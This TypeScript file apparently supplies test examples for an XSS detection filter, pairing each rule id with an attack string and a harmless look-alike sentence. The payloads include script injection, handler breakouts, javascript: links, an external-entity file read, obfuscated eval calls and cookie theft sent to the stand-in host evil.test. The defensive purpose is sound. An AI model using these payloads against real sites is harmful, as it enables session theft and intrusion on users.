import type { Examples } from './example.js';

export const XSS_EXAMPLES: Examples = {
  'xss.script-element': ['<script>steal(session)</script>', 'Put the <script> tag at the end of the body.'],
  'xss.script-tag': ['</script><b>x', 'The manuscript> reader is for scripts of plays.'],
  'xss.script-source': [
    '<script src=//evil.test/x.js>',
    'The src attribute of a script element names its file.',
  ],
  'xss.script-closed-into-markup': [
    '</title><img src=x onerror=go()>',
    'Close </title> before you open the <body> element.',
  ],
  'xss.script-nested-tag': ['<scr<script>ipt>go()', 'a << b shifts left, and a <b> tag is bold.'],
  'xss.event-attribute': ['<p onpointerup=go()>', 'On click = the moment the <p> is pressed.'],
  'xss.event-attribute-breakout': ['" onfocus=go(1) autofocus x="', 'The "on" switch = the red one.'],
  'xss.active-element': ['<iframe >', 'An iframe shows another page inside this one.'],
  'xss.active-element-target': ['<embed src="//evil.test/a.swf">', 'Write <b> for bold, src = source.'],
  'xss.call-in-tag': ['<b " x=confirm(1)>', 'Call print(x) after the <b> element.'],
  'xss.meta-refresh': [
    '<meta http-equiv="refresh" content="0;url=//evil.test">',
    'Add <meta charset="utf-8"> to the head.',
  ],
  'xss.external-entity': [
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///srv/key">]>',
    'Every page begins with <!DOCTYPE html> nowadays.',
  ],
  'xss.markup-breakout': ['"><b>x', 'I wrote <a href="/x"><b>here</b></a> in the template.'],
  'xss.script-address': [
    '<a href="javascript:go(1)">x</a>',
    'My favourite language is JavaScript: it is everywhere.',
  ],
  'xss.script-address-spaced': ['<a href="jav\tas\ncript:go()">x', 'I like Java, scripts: less so.'],
  'xss.style-escapes': ['<b style="a:\\65\\78\\70\\72(1)">', 'Use style="color: red" on the cell.'],
  'xss.handler-scheme': ['mhtml:file.htm!xss.html', 'The aim: less is more.'],
  'xss.data-document': ['data:text/html,<b>x', 'Here is the data: 4 apples, 3 pears.'],
  'xss.style-script': ['<b style="width:expression(go())">', 'The expression (a + b) is a sum.'],
  'xss.numeric-host': [
    '<a href="http://0x7f000001/">x</a>',
    'See <a href="http://example.com/">this</a> page.',
  ],
  'xss.split-by-comment': ['width:exp/*x*/ression(go())', 'int a; /* the width */ int b;'],
  'xss.metacharacter-probe': [`'";<>&%()=+{}`, 'Wow!!! ---------- ((((( :-) ;-) ))))'],
  'xss.utf7': ['+ADw-b+AD4-', 'Call +49-30-1234 for support.'],
  'xss.encoded-markup': ['%3Cscript%3E', 'The link has %20 for a space in it.'],
  'xss.script-dialog': ['confirm(7)', 'Please confirm (by mail) the new date.'],
  'xss.script-breakout': [`";alert(7);"`, 'Say "alert" and leave the room.'],
  'xss.script-char-codes': ['String.fromCharCode(104,105)', 'A char code is a number.'],
  'xss.script-evaluates': ['eval(atob(x))', 'Teachers evaluate (and grade) essays.'],
  'xss.script-evaluates-call': [`eval('ale'+'rt(7)')`, "It is called with eval('1 + 2')."],
  'xss.script-event-call': ['onscroll=alert(7)', 'On error = stop the import.'],
  'xss.script-indirect-call': ['window["ale"+"rt"](7)', 'The window [left] is open.'],
  'xss.script-steals-cookie': ['x=document.cookie', 'The document. Cookie recipes are on page two.'],
  'xss.script-sends-away': ['location="http://evil.test/?"+x', 'My location = Berlin, Germany.'],
  'xss.script-without-letters': [
    '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]',
    'The matrix is [1][2][3] and (a)(b)(c).',
  ],
  'xss.script-constructor-call': [
    `x.constructor.constructor('go()')()`,
    'The constructor called twice for materials.',
  ],
  'xss.script-entities-in-handler': [
    '&#97;&#98;&#99;&#100;&#101;&#102;',
    'Use &#169; for the copyright sign.',
  ],
  'xss.script-polyglot': ['/*--><b oncopy=x //-->', 'http://example.com/prompt and // a comment'],
};
